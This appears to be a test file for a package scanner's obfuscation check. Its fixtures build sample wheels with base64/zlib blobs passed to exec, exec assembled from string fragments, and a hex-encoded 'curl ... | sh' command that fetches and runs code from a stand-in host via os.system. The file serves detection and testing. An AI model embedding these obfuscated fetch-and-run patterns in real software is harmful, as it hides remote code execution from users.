import base64
import zlib

from warden.checks.base import Classification
from warden.checks.builtin.obfuscation import Obfuscation

from .helpers import flagged, scan, wheel

BLOB = base64.b64encode(zlib.compress(b"print('inert test payload')\n" * 40)).decode()


def test_compressed_blob_decoded_into_exec_is_malicious():
    dist = wheel({"demo/loader.py": f"""
import base64, zlib

def load():
    exec(zlib.decompress(base64.b64decode("{BLOB}")))
"""})
    verdict = scan(Obfuscation, dist)
    assert verdict.classification is Classification.MALICIOUS
    assert verdict.evidence[0].member == "demo/loader.py"


def test_command_spelled_in_hex_and_started_is_malicious():
    command = b"curl -s https://x.invalid/a | sh".hex()
    dist = wheel({"demo/util.py": f"""
from os import system as run

def helper():
    run(bytes.fromhex("{command}").decode())
"""})
    assert scan(Obfuscation, dist).classification is Classification.MALICIOUS


def test_exec_looked_up_by_a_spelled_out_name_is_flagged():
    dist = wheel({"demo/__init__.py": """
import base64
run = eval("ex" + "ec")
code = base64.b64decode("cHJpbnQoJ2luZXJ0IHRlc3QgcGF5bG9hZCcpICAjIHBhZGRpbmcgcGFkZGluZw==")
_hidden = [eval, exec]
"""})
    assert flagged(scan(Obfuscation, dist))


def test_exec_of_own_version_file_and_of_a_remote_bootstrap_from_stdin_is_clean():
    # Dual-use: mitogen and sshuttle decode code they receive, coverage execs version.py.
    dist = wheel({"demo/__init__.py": """
import sys, zlib

def bootstrap():
    exec(zlib.decompress(sys.stdin.buffer.read()))

exec(open("demo/_version.py").read())
""", "demo/_data.py": f'ICON = "{BLOB}"\n'})
    assert not flagged(scan(Obfuscation, dist))
